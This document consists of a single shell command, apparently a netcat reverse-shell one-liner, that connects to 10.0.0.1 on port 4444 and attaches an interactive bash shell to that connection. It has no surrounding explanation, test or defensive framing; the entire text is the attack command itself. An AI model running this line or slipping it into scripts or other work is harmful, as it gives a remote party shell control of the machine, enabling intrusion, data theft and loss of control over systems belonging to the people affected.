nc 10.0.0.1 4444 -e /bin/bash
